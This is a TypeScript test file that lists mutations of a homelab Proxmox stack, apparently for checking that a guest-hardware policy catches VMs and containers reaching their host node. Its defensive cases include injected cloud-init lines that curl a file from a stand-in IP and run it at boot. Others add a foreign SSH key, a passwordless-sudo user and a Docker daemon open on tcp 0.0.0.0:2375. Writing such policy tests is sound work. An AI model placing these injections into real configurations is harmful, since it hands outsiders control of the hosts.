import { types } from "../../../policies/types";
import { adding, find, rows, setting, type Mutation, type Row } from "./mutation";

const policy = "guest-hardware";
const machine = (inputs: Record<string, unknown>): Mutation["change"] =>
  setting(types.virtualMachines[0], "tooling", inputs);

/** A VM of the program's that has something more. */
const having = (property: string, value: unknown): Row => [
  `a VM with ${property}`,
  machine({ [property]: value }),
  `it sets \`${property}\``,
];

const told =
  (inputs: Record<string, unknown>): Mutation["change"] =>
  (stack) => {
    const vm = find(stack, types.virtualMachines[0], "tooling");
    vm.inputs = { ...vm.inputs, initialization: { ...(vm.inputs?.initialization as object), ...inputs } };
  };

const container = (inputs: Record<string, unknown>): Mutation["change"] =>
  adding(types.systemContainers[0], { vmId: 171, nodeName: "pve-mon", unprivileged: true, ...inputs });

const upload = (inputs: Record<string, unknown>): Mutation["change"] =>
  adding(types.uploads[0], { contentType: "snippets", datastoreId: "local", nodeName: "pve-mon", ...inputs });
const onNode = "it puts a file on the node";

/** The VM's user data with one text in place of another. */
const userData =
  (from: string | RegExp, to: string): Mutation["change"] =>
  (stack) => {
    const { inputs } = find(stack, types.uploads[0], "tooling-user-data");
    const { value } = inputs?.sourceRaw as { value: { fileName: string; data: string } };
    const data = value.data.replace(from, to);
    if (data === value.data) throw new Error(`the user data has no ${String(from)}: ${data}`);
    const sourceRaw = { ...value, data };
    setting(types.uploads[0], "tooling-user-data", { sourceRaw })(stack);
  };
const otherwise = "it tells a VM something else than its component does";

/** Ways onto the node. */
export const guestMutations: readonly Mutation[] = rows(
  policy,
  having("hookScriptFileId", "local:snippets/x.sh"),
  having("kvmArguments", "-drive file=/dev/sda"),
  having("hostpcis", [{ device: "hostpci0", id: "0000:00:02.0" }]),
  having("usbs", [{ host: "1234:5678" }]),
  having("virtiofs", [{ mapping: "rootfs" }]),
  [
    "a VM with a serial device of the node",
    machine({ serialDevices: [{ device: "/dev/ttyS0" }] }),
    "it has the node's /dev/ttyS0",
  ],
  [
    "a VM with a disk of the node",
    machine({ disks: [{ interface: "scsi1", datastoreId: "", pathInDatastore: "/dev/sda" }] }),
    "its disk is /dev/sda",
  ],
  [
    "a VM that is told somebody else's file",
    told({ userDataFileId: "local:snippets/x.yaml" }),
    "which is no file of this stack",
  ],
  [
    "a VM that is told more",
    told({ vendorDataFileId: "local:snippets/x.yaml" }),
    "it sets `initialization.vendorDataFileId`",
  ],
  ["a VM with a password", told({ userAccount: { password: "x" } }), "it sets `initialization.userAccount`"],
  ["a privileged system container", container({ unprivileged: false }), "its root is the node's"],
  ["a system container without a word of it", container({ unprivileged: undefined }), "its root is the node's"],
  [
    "a system container with the node's files",
    container({ mountPoints: [{ volume: "/etc", path: "/x" }] }),
    "it mounts /etc",
  ],
  [
    "a system container with features",
    container({ features: { nesting: true, keyctl: true } }),
    "it sets `features.keyctl`",
  ],
  [
    "a system container with a device",
    container({ devicePassthroughs: [{ path: "/dev/sda" }] }),
    "`devicePassthroughs`",
  ],
  [
    "a system container with a hook script",
    container({ hookScriptFileId: "local:snippets/x.sh" }),
    "`hookScriptFileId`",
  ],
  [
    "a hook script on the node",
    upload({ sourceRaw: { fileName: "x.sh", data: "#!/bin/sh" }, fileMode: "0755" }),
    onNode,
  ],
  ["an image on the node", upload({ contentType: "iso", sourceFile: { path: "/x.iso" } }), onNode],
  [
    "user data that others may read",
    setting(types.uploads[0], "tooling-user-data", { fileMode: "0644" }),
    "others on the node may read it",
  ],
  ["another key", userData(/ssh-ed25519 \S+ operator/, "ssh-ed25519 BBBB somebody"), otherwise],
  ["a second key", userData(/- ssh-ed25519 \S+ operator/, "$&\n      - ssh-ed25519 BBBB somebody"), otherwise],
  [
    "a key of somebody else's from the start",
    (stack) => {
      const { inputs } = find(stack, "homelab:host:ToolingVm", "tooling");
      const publicKey = "ssh-ed25519 BBBB somebody";
      const { value } = inputs?.operatorKey as { value: object };
      Object.assign(inputs ?? {}, { operatorKey: { ...value, publicKey } });
      userData(/ssh-ed25519 \S+ operator/, publicKey)(stack);
    },
    "it lets in a key that is not the operator's",
  ],
  ["a second user", userData("users:\n", "users:\n  - name: somebody\n    sudo: ALL\n"), otherwise],
  ["a command", userData("runcmd:\n", "runcmd:\n  - [curl, -o, /x, 'http://198.51.100.1/x']\n"), otherwise],
  ["an early command", userData("runcmd:\n", "bootcmd:\n  - [sh, /x]\nruncmd:\n"), otherwise],
  ["a login with a password", userData("ssh_pwauth: false", "ssh_pwauth: true"), otherwise],
  ["another Docker", userData('"live-restore": true', '"hosts": ["tcp://0.0.0.0:2375"]'), otherwise],
  ["another program at the start", userData("systemctl restart ssh", "systemctl disable ssh"), otherwise],
  ["no YAML", userData("runcmd:", "runcmd: ]"), otherwise],
  [
    "a file of this computer's",
    setting(types.uploads[0], "tooling-user-data", { sourceFile: { path: "/etc/x" } }),
    "it sets `sourceFile`",
  ],
);
